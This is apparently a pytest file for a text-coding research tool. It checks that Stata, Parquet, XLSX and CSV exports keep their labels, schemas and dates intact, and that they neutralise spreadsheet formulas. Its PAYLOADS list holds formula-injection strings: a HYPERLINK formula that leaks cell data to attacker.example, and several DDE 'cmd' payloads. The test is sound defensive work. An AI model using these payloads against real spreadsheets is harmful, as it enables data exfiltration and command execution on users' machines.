"""What other programs read back: Stata value labels, %td dates and short unique labels
(pyreadstat, pandas); Parquet with a fixed schema that concatenates across projects (pyarrow);
no spreadsheet formula in any CSV or XLSX stancemap writes."""

import json

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from conftest import DATA
from stancemap.config import Config
from stancemap.datasets.export import export_project

FAST = {"sectors": {"embeddings": False}, "topics": {"enabled": False}}
PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the report")',
            "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def small_project(tmp_path_factory, codebook):
    """A project without PDFs (no page numbers) and with formula-looking passages."""
    from stancemap.corpus.ingest import ingest
    from stancemap.nlp.pipeline import code_project

    base = tmp_path_factory.mktemp("formats")
    (base / "in").mkdir()
    (base / "in" / "note.md").write_text((DATA / "policy_note.md").read_text("utf-8"), "utf-8")
    (base / "in" / "payloads.txt").write_text(
        "\n\n".join(f"{p} China's loans to Kazakhstan are a burden." for p in PAYLOADS), "utf-8")
    config = Config.model_validate(FAST)
    ingest(base / "in", base / "p", config=config)
    code_project(base / "p", config, codebook)
    return base / "p"


def test_stata_value_labels_dates_and_labels(coded_project, tmp_path):
    import pyreadstat

    export_project(coded_project, "passages", tmp_path / "p.dta")
    data, meta = pyreadstat.read_dta(tmp_path / "p.dta")
    labels = meta.variable_value_labels
    assert labels["stance_china"] == {1: "favour", 2: "against", 3: "neutral"}
    assert labels["sentiment"] == {1: "positive", 2: "negative", 3: "neutral"}
    assert set(labels["sentiment_source"].values()) == {"model", "human", "adjudicated"}
    assert "interview" in labels["kind"].values()
    assert meta.original_variable_types["date"] == "%td"
    assert str(data["date"].dropna().iloc[0])[:4].isdigit()
    assert meta.file_label.startswith("stancemap ") and "china-central-asia" in meta.file_label
    variable_labels = meta.column_labels
    assert all(len(label) <= 80 for label in variable_labels)
    assert len(set(variable_labels)) == len(variable_labels)
    # pandas reads the same file as categoricals with those labels
    table = pd.read_stata(tmp_path / "p.dta")
    assert set(table.sentiment.dropna()) <= {"positive", "negative", "neutral"}
    dictionary = pd.read_csv(tmp_path / "p.dta.dictionary.csv")
    long = dictionary[dictionary.meaning.str.len() > 80]
    assert len(long) and (long.stata_name.notna()).all()  # the full text stays in the dictionary


def test_parquet_has_a_fixed_schema_and_concatenates_across_projects(coded_project, small_project,
                                                                     tmp_path):
    export_project(coded_project, "passages", tmp_path / "a.parquet")
    export_project(small_project, "passages", tmp_path / "b.parquet")
    a, b = pq.read_table(tmp_path / "a.parquet"), pq.read_table(tmp_path / "b.parquet")
    assert b.schema.field("page").type == pa.int64()  # all null here, still an integer
    assert b.schema.field("stance_china_score").type == pa.float64()
    assert b.schema.field("date").type == pa.date32()
    shared = set(a.schema.names) & set(b.schema.names)
    assert all(a.schema.field(n).type == b.schema.field(n).type for n in shared)
    both = pa.concat_tables([a, b], promote_options="default")
    assert both.num_rows == a.num_rows + b.num_rows
    described = b.schema.field("stance_china").metadata[b"description"].decode()
    assert described == "Stance of the passage toward China"
    manifest = json.loads(b.schema.metadata[b"stancemap.manifest"])
    assert manifest["codebook"]["name"] == "china-central-asia" and manifest["level"] == "passages"
    panels = [tmp_path / "pa.parquet", tmp_path / "pb.parquet"]
    export_project(coded_project, "panel", panels[0], by=["year"])
    export_project(small_project, "panel", panels[1], by=["year"])
    pa.concat_tables([pq.read_table(p) for p in panels])  # same columns: no promotion needed


def test_no_formula_reaches_a_spreadsheet(small_project, tmp_path):
    from openpyxl import load_workbook

    export_project(small_project, "passages", tmp_path / "p.xlsx")
    book = load_workbook(tmp_path / "p.xlsx")
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert sum(any(t.startswith(p) for p in PAYLOADS) for t in texts) >= len(PAYLOADS)  # text, title
    export_project(small_project, "passages", tmp_path / "p.csv")
    table = pd.read_csv(tmp_path / "p.csv")
    starts = table.text.str[:1]
    assert not starts.isin(list("=+-@")).any()
    assert (table.text.str.startswith("'=") | table.text.str.startswith("'+")
            | table.text.str.startswith("'-") | table.text.str.startswith("'@")).sum() == len(PAYLOADS)
